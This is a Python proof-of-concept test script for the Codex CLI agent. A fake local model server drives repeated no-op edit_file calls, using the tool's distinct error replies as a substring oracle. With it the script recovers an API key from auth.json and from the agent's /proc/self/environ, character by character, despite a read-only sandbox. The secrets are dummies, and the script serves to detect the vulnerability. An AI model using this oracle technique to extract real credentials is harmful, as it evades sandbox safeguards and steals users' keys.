#!/usr/bin/env python3
"""01: edit_file (always dispatchable, even when not offered) reads the target file in codex's
own unsandboxed process; its distinct answers ("old_text was not found" / "no change") are a
substring oracle on ANY file codex can read, incl. $CODEX_HOME/auth.json (hidden from commands).
A prompt-injected model recovers the API key char by char, -a never -s read-only.
Exit 1 while vulnerable (the secret is recovered), 0 otherwise."""
import json, os, shutil, subprocess, sys, tempfile, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

REPO = os.environ.get("CODEX_REPO", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", ".."))
CODEX = os.environ.get("CODEX_BIN", os.path.join(REPO, "dist/codex"))
SECRET = "sk-" + "3f9a0c7e"
ALPHA = "0123456789abcdef"
PREFIX = '"OPENAI_API_KEY": "sk-'

root = tempfile.mkdtemp(prefix="a3-01-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws):
    os.makedirs(d)
auth = os.path.join(ch, "auth.json")
with open(auth, "w") as f:
    f.write('{\n  "OPENAI_API_KEY": "%s"\n}\n' % SECRET)
os.chmod(auth, 0o600)

state = {"known": "", "i": 0, "n": 0, "done": False}
lock = threading.Lock()

def next_call(last_output):
    """Decide the next tool call from the previous result."""
    s = state
    if last_output is not None:
        if last_output.startswith("no change"):  # guess was a substring of auth.json
            s["known"] += ALPHA[s["i"]]
            s["i"] = 0
        else:
            s["i"] += 1
        if s["i"] >= len(ALPHA) or len(s["known"]) >= 8:
            s["done"] = True
            return None
    guess = PREFIX + s["known"] + ALPHA[s["i"]]
    s["n"] += 1
    return {"path": auth, "old_text": guess, "new_text": guess}

class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        last = None
        for it in body.get("input", []):
            if it.get("type") == "function_call_output":
                o = it.get("output")
                last = o if isinstance(o, str) else json.dumps(o)
        with lock:
            if last is not None and last.startswith("{"):
                try: last = json.loads(last).get("output", last)
                except Exception: pass
            args = None if state["done"] else next_call(last if state["n"] else None)
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        evs = [{"type": "response.created", "response": {"id": "r"}}]
        if args is None:
            item = {"type": "message", "role": "assistant", "id": "m",
                    "content": [{"type": "output_text", "text": "done"}]}
        else:
            item = {"type": "function_call", "name": "edit_file", "call_id": "c%d" % state["n"],
                    "arguments": json.dumps(args), "id": "fc%d" % state["n"]}
        evs.append({"type": "response.output_item.done", "item": item})
        evs.append({"type": "response.completed", "response": {"id": "r", "usage": {
            "input_tokens": 1, "output_tokens": 1, "total_tokens": 2}}})
        for e in evs:
            self.wfile.write(("event: %s\ndata: %s\n\n" % (e["type"], json.dumps(e))).encode())

srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
with open(os.path.join(ch, "config.toml"), "w") as f:
    f.write('model = "gpt-5"\nmodel_provider = "x"\n[model_providers.x]\nname="x"\nbase_url = "http://127.0.0.1:%d/v1"\n'
            'wire_api = "responses"\nenv_key = "X_KEY"\n' % srv.server_address[1])
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
try:
    p = subprocess.run([CODEX, "exec", "-s", "read-only", "-c", 'approval_policy="never"',
                        "--skip-git-repo-check", "-C", ws, "hi"], env=env, capture_output=True,
                       text=True, timeout=300)
except subprocess.TimeoutExpired:
    print("timeout"); sys.exit(2)
finally:
    srv.shutdown()
got = "sk-" + state["known"]
print("auth.json: codex rc=%d, %d edit_file calls, recovered: %r (secret %r)" % (p.returncode, state["n"], got, SECRET))
vuln = got == SECRET
# second target: codex's own environment (/proc/self/environ of codex: the provider key, which
# commands never see) -- same oracle, run again
ENV_SECRET = "sk-" + "b41d77e2"
state.update(known="", i=0, n=0, done=False)
auth = "/proc/self/environ"
PREFIX = "OPENAI_API_KEY=sk-"
srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
with open(os.path.join(ch, "config.toml"), "w") as f:
    f.write('model = "gpt-5"\nmodel_provider = "x"\n[model_providers.x]\nname="x"\nbase_url = "http://127.0.0.1:%d/v1"\n'
            'wire_api = "responses"\nenv_key = "OPENAI_API_KEY"\n' % srv.server_address[1])
env = dict(os.environ, HOME=home, CODEX_HOME=ch, OPENAI_API_KEY=ENV_SECRET)
p = subprocess.run([CODEX, "exec", "-s", "read-only", "-c", 'approval_policy="never"',
                    "--skip-git-repo-check", "-C", ws, "hi"], env=env, capture_output=True, text=True, timeout=300)
srv.shutdown()
got2 = "sk-" + state["known"]
print("environ: codex rc=%d, %d edit_file calls, recovered: %r (secret %r)" % (p.returncode, state["n"], got2, ENV_SECRET))
vuln = vuln or got2 == ENV_SECRET
shutil.rmtree(root, ignore_errors=True)
if vuln:
    print("VULNERABLE: secrets read through edit_file's oracle")
    sys.exit(1)
print("held"); sys.exit(0)
